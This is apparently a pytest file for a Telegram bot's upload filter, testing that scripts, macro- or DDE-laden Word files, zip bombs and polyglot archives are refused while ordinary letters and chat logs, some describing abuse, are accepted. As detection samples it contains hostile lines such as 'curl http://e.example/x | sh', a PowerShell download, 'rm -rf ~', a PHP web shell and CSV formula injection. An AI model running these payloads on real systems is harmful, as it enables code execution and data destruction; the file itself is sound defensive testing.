"""The structure of a file decides whether it is accepted: programs that look like documents are not, letters are."""

import io
import sys
import zipfile
from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handlers.telegram.files.file_types import DOCX, PDF, TEXT, UNKNOWN, sniff
from handlers.telegram.structure.findings import Finding
from handlers.telegram.structure.look import TAIL, FileTail, look, look_at_end
from tests.support.incoming.documents import (
    MAIN,
    RELATIONS,
    TYPES,
    WORD,
    letter,
    parts_of_letter,
    relation,
    words,
    zipped,
)

PROGRAMS = {
    "vbs": 'Set shell = CreateObject("WScript.Shell")\nshell.Run "calc.exe"\n',
    "vbs in one line": 'CreateObject("WScript.Shell").Run "calc"',
    "vbs of words": 'Dim name\nname = InputBox("Who?")\nMsgBox "Hello " & name\n',
    "encoded vbs": "#@~^EAAAAA==\\ko$K6~J4kJ0wMAAA==^#~@",
    "ps1": "Start-Process calc.exe",
    "ps1 that fetches": "$c = New-Object Net.WebClient\n$c.DownloadFile('http://e.example/x', 'x.exe')\n",
    "ps1 with a comment": "# Our notes of Monday\n\nInvoke-Expression (Get-Content x.txt)\n",
    "ps1 of cmdlets": "Get-Process\nStop-Process -Name winword\nRemove-Item C:\\notes\n",
    "bat": "@echo off\ndel /q C:\\notes\n",
    "bat without an echo": "del /f /q C:\\x\nstart http.exe\nshutdown /s\n",
    "cmd": "cmd /c calc",
    "sh": "#!/bin/sh\nrm -rf ~\n",
    "sh without its first line": "curl http://e.example/x | sh\n",
    "desktop": "[Desktop Entry]\nType=Application\nExec=sh -c 'xterm'\nName=Letter\n",
    "desktop under a comment": "# a letter\n\n[Desktop Entry]\nType=Application\nExec=xterm\n",
    "url": "[InternetShortcut]\nURL=file://e.example/x.exe\n",
    "url under a section": "[{000214A0-0000-0000-C000-000000000046}]\nProp3=19,2\n[InternetShortcut]\nURL=http://e.example\n",
    "scf": "[Shell]\nCommand=2\nIconFile=\\\\e.example\\share\\x.ico\n",
    "inf": "[autorun]\nopen=x.exe\n",
    "reg": 'Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software]\n"x"="y"\n',
    "old reg": "REGEDIT4\n\n[HKEY_CURRENT_USER\\Software]\n",
    "hta": "<hta:application id=x>\n<script>new ActiveXObject('WScript.Shell')</script>",
    "html": "<!DOCTYPE html><html><body onload=x()></body></html>",
    "html under a comment": "<!-- a letter -->\n<body>hello</body>",
    "html that begins with words": "A letter\n<script>alert(1)</script>\n",
    "svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "svg as xml": '<?xml version="1.0"?><svg onload="alert(1)"/>',
    "svg under a comment": '<!-- picture --><svg onload="alert(1)"/>',
    "js": "var shell = new ActiveXObject('WScript.Shell');\nshell.Run('calc');\n",
    "js of node": "const { exec } = require('child_process');\nexec('calc');\n",
    "minified js": "!function(){eval(atob('YWxlcnQoMSk='))}();",
    "wsf": '<job id="x"><script language="VBScript">MsgBox 1</script></job>',
    "sct": "<scriptlet><registration progid='x'/></scriptlet>",
    "py": "import os\nos.system('calc')\n",
    "py of words": "def go(x):\n    print(x)\ngo(1)\n",
    "php": "<?php system($_GET['c']); ?>",
    "rtf": "{\\rtf1{\\object\\objdata 0105}}",
    "ps": "%!PS-Adobe-3.0\n(%pipe%id) (w) file\n",
    "iqy": "WEB\n1\nhttp://e.example/x\n=cmd|' /c calc'!A0\n",
    "csv": "name,age\n=cmd|' /C calc'!A0,4\n",
    "slk": 'ID;PWXL;N;E\nC;X1;Y1;K0;ECALL("x")\n',
    "jnlp": '<?xml version="1.0"?><jnlp codebase="http://e.example"/>',
    "systemd unit": "[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c x\n",
    "c": "#include <stdio.h>\nint main() {\n  return 0;\n}\n",
}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_a_program_is_refused_by_what_it_is_whatever_its_name(encoding: str) -> None:
    for name, (kind, program) in product(("letter.txt", "letter", "x.vbs"), PROGRAMS.items()):
        data = program.encode(encoding)
        assert sniff(data[:4096], name) == UNKNOWN or look(TEXT, data, name) is Finding.REFUSED, (kind, name)


LETTERS = {
    "a diary": "Monday\nHe hit me again. I told Ms Li; she said: wait (until Friday).\n\nTuesday\nNothing.\n",
    "one line": "call me when you can, he is at work until six",
    "another line": "start with my brother, he saw it",
    "a list": "- came home late;\n- no food in the house;\n- door locked from outside;\n",
    "a chat export": "[12.03.26, 18:02:11] Dad: where are you?\n[12.03.26, 18:03:40] Me: at school\n",
    "an irc log": "<Ann> he says he will post the pictures\n<Bo> tell somebody!\n",
    "another chat export": "2026-03-12 18:02 - Dad: come home (now)\n2026-03-12 18:03 - Me: no\n",
    "Chinese": "三月五日，他又打我了。\n老师说：“等到星期五”。我很害怕；不知道怎么办。\n",
    "a vcard": "BEGIN:VCARD\nVERSION:3.0\nFN:Mr Wang\nTEL:13900000000\nEND:VCARD\n",
    "a table": "date,what,who\n2026-03-05,slapped,father\n2026-03-06,no dinner,father\n",
    "addresses": "https://example.org/post/1\nhttps://example.org/post/2\n@account\n#tag\n",
    "hearts": "<3 <3 <3 love you mum\n",
    "questions": "Where was he? If (and only if) she comes, I go.\nWhile I slept he came in.\nFor years.\n",
    "set phrases": "Set the table, she said.\nSet it right!\nClass 3B.\nFunction rooms were closed.\nImport duties.\n",
    "Russian": "Он бил её каждый день; я слышал это (через стену).\nПомогите.\n",
    "a mail": "From: Ms Li\nTo: the head\nSubject: Jun\n\nHe came with bruises again.\n> When?\nMonday.\n",
}


def test_ordinary_texts_are_accepted() -> None:
    for kind, told in LETTERS.items():
        data = told.encode()
        assert sniff(data[:4096], "notes.txt") == TEXT, kind
        assert look(TEXT, data, "notes.txt") is Finding.PLAIN, kind


WORDS = ("he", "she", "hit", "home", "school", "told", "me", "and", "then", "at", "night", "他", "打", "我", "回家")


@given(st.lists(st.lists(st.sampled_from(WORDS), min_size=1)))
def test_text_without_special_characters_is_never_a_program(lines: list[list[str]]) -> None:
    text = ".\n".join(" ".join(line) for line in lines)
    assert look(TEXT, text.encode(), "x.txt") is Finding.PLAIN


def test_a_word_document_is_accepted() -> None:
    data = letter()
    assert sniff(data[:4096], "letter.docx") == DOCX
    assert look(DOCX, data) is Finding.PLAIN


def test_a_word_document_with_pictures_links_and_template_is_accepted() -> None:
    inner = relation("image", "media/image1.png") + relation("hyperlink", "https://example.org", outside=True)
    rels: dict[str, str | bytes] = {
        "word/_rels/document.xml.rels": RELATIONS.format(inner=inner),
        "word/_rels/settings.xml.rels": RELATIONS.format(
            inner=relation("attachedTemplate", "file:///C:\\Office\\letter.dotx", outside=True)
        ),
        "word/media/image1.png": b"\x89PNG\r\n\x1a\n",
        "customXml/item1.xml": "<x/>",
        "word/document.xml": words('<w:r><w:instrText> HYPERLINK "https://e.example/database" </w:instrText></w:r>'),
    }
    assert look(DOCX, letter(**rels)) is Finding.PLAIN


RUN = "<w:r><w:instrText>{}</w:instrText></w:r>"
MACROS = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
ACTING: dict[str, dict[str, str | bytes]] = {
    "macros": {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"},
    "macros under another name": {"word/theme.xml": b"\xd0\xcf\x11\xe0"},
    "a document with macros renamed": {
        "[Content_Types].xml": TYPES.format(main="application/vnd.ms-word.document.macroEnabled.main+xml", more="")
    },
    "a template": {"[Content_Types].xml": TYPES.format(main=MAIN.replace("document.main", "template.main"), more="")},
    "a declared macro part": {"[Content_Types].xml": TYPES.format(main=MAIN, more=MACROS)},
    "a relation to macros": {
        "word/_rels/document.xml.rels": RELATIONS.format(inner=relation("vbaProject", "styles.xml"))
    },
    "controls": {"word/activeX/activeX1.xml": "<x/>"},
    "an object": {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
    "a workbook in it": {"word/embeddings/book.xlsx": b"PK\3\4"},
    "a template from elsewhere": {
        "word/_rels/settings.xml.rels": RELATIONS.format(
            inner=relation("attachedTemplate", "https://e.example/x.dotm", outside=True)
        )
    },
    "an object from elsewhere": {
        "word/_rels/document.xml.rels": RELATIONS.format(
            inner=relation("oleObject", "mhtml:https://e.example/x!x", outside=True)
        )
    },
    "a picture from elsewhere": {
        "word/_rels/document.xml.rels": RELATIONS.format(
            inner=relation("image", "https://e.example/who-looks.png", outside=True)
        )
    },
    "a page in it": {"word/page.html": "<script>alert(1)</script>"},
    "a program beside it": {"word/media/x.exe": b"MZ"},
    "a program in the dress of a picture": {"word/media/image1.png": b"MZ\x90"},
    "a field that runs": {"word/document.xml": words(RUN.format("DDEAUTO c:\\\\x.exe"))},
    "a field in pieces": {"word/document.xml": words(RUN.format("DD") + RUN.format("EAUTO x"))},
    "a field in a footer": {"word/footer1.xml": words(RUN.format(" DDE x y"))},
    "a simple field": {"word/document.xml": f'<w:document {WORD}><w:fldSimple w:instr="DDEAUTO x"/></w:document>'},
    "a field in numbers": {"word/document.xml": words(RUN.format(" QUOTE 68 68 69"))},
    "an alien chunk": {"word/document.xml": words("<w:altChunk/>")},
    "entities that grow": {"word/document.xml": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'},
    "an application": {"AndroidManifest.xml": b"\3\0\x08\0", "classes.dex": b"dex\n035"},
    "a java archive": {"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"},
    "a way out": {"word/../../x.xml": "<x/>"},
    "an add-in": {"word/webextensions/webextension1.xml": "<x/>"},
    "no words at all": {"[Content_Types].xml": TYPES.format(main="application/xml", more="")},
    "words that are no XML": {"word/document.xml": "MZ"},
}


def test_an_active_document_is_refused() -> None:
    found = {kind: look(DOCX, letter(**parts), "letter.docx") for kind, parts in ACTING.items()}
    assert found == dict.fromkeys(ACTING, Finding.REFUSED)


def test_archives_disguised_as_documents_are_refused() -> None:
    apk = zipped({"AndroidManifest.xml": b"\3", "classes.dex": b"dex", "[Content_Types].xml": "<x/>", "word/x": "x"})
    for data in (
        apk,
        zipped({"xl/workbook.xml": "<x/>", "[Content_Types].xml": "<x/>"}),
        b"PK\3\4",
        b"",
        b"PK\5\6" + bytes(18),
    ):
        assert look(DOCX, data, "letter.docx") is Finding.REFUSED


def test_zip_bombs_are_refused_before_they_are_unpacked() -> None:
    blank = b" " * (101 << 20)
    assert look(DOCX, letter(**{"word/big.xml": blank})) is Finding.REFUSED
    many = {f"word/{at}.xml": "<x/>" for at in range(4001)}
    assert look(DOCX, letter(**many)) is Finding.REFUSED


def test_overlapping_archive_entries_are_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in parts_of_letter().items():
            archive.writestr(name, content)
        twin = archive.getinfo("word/styles.xml")
        archive.filelist.append(twin)
    assert look(DOCX, buffer.getvalue()) is Finding.REFUSED


@pytest.mark.parametrize("head", [b"%PDF-1.7\n", b"OggS\0\2", b"\0\0\0\x18ftypmp42", b"ID3\4\0"])
def test_a_file_that_is_also_an_archive_is_refused(head: bytes) -> None:
    jar = zipped({"META-INF/MANIFEST.MF": "Main-Class: X"})
    whole = head + bytes(5000) + jar
    assert look_at_end(whole[-TAIL:]) is Finding.REFUSED
    assert look_at_end((head + bytes(5000) + zipped({"x": "y"}, comment=b"c" * 900))[-TAIL:]) is Finding.REFUSED
    assert look_at_end((head + bytes(300_000))[-TAIL:]) is Finding.PLAIN
    assert look(PDF, whole) is Finding.REFUSED


async def test_the_tail_of_a_stream_is_kept_however_it_is_chunked() -> None:
    async def chunks() -> object:
        for at in range(300):
            yield bytes([at % 256]) * 1000

    end = FileTail()
    sizes = [len(chunk) async for chunk in end.watched(chunks())]  # type: ignore[arg-type]
    assert (sum(sizes), len(end.bytes), end.bytes[-1:]) == (300_000, TAIL, bytes([299 % 256]))


@given(st.binary(max_size=3000))
def test_no_bytes_make_the_check_fail(data: bytes) -> None:
    for mime in (DOCX, PDF, TEXT):
        assert look(mime, data) in Finding
    base = letter()
    for at in range(0, len(data), 97):
        spoilt = bytearray(base)
        spoilt[(at * 31) % len(base)] ^= data[at] or 1
        assert look(DOCX, bytes(spoilt)) in Finding


def test_a_look_that_cannot_be_imported_refuses_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "handlers.telegram.structure.documents", None)
    with pytest.raises(ImportError):
        look(TEXT, b"He hits me.")
